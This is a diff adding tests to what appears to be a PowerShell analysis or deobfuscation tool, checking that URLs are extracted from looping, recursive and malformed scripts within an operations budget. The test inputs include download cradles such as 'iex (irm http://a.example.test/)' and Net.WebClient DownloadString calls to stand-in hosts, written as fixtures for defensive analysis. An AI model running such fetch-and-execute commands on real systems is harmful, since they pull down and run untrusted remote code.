@@ -137,3 +137,25 @@ def test_no_text_crashes_its_reader(text):
 def test_what_stands_among_blocks_and_is_none_is_passed_over():
     text = "1..2 | % { (New-Object Net.WebClient).DownloadString('http://z.example.test/' + $_) } 'x' $null"
     assert run(text).urls == ["http://z.example.test/1", "http://z.example.test/2"]
+
+
+def test_a_function_that_goes_two_ways_at_every_call_is_followed_some_of_them():
+    text = (
+        "$u = irm http://a.example.test/\nfunction f($n) { if ($u -eq $n) { if ($n -gt 0) { f ($n - 1) } } else { if ($n -gt 0) { f ($n - 1) } } }\n"
+        "1..300 | % { f 12 }\n(New-Object Net.WebClient).DownloadString('http://z.example.test/')"
+    )
+    budget = Budget(Limits())
+    before = budget.left("operations")
+    assert run(text, budget).urls == ["http://a.example.test/", "http://z.example.test/"]
+    assert before - budget.left("operations") < 200_000
+
+
+def test_the_way_that_goes_on_is_gone_when_both_were_seen_often_enough():
+    text = "$u = irm http://a.example.test/\nforeach ($i in 1..500) { if ($u -eq $i) { continue } else { $k++ }; $n++ }\nirm http://z.example.test/$n"
+    assert run(text).urls[1:] == ["http://z.example.test/500"]
+
+
+def test_a_statement_nobody_can_read_is_taken_apart_once():
+    out = run("1..50 | % { foo ]) ( iex (irm http://a.example.test/) ) }}")
+    assert len(out.facts("eval.bad_statement")) == 2
+    assert out.urls == ["http://a.example.test/"]
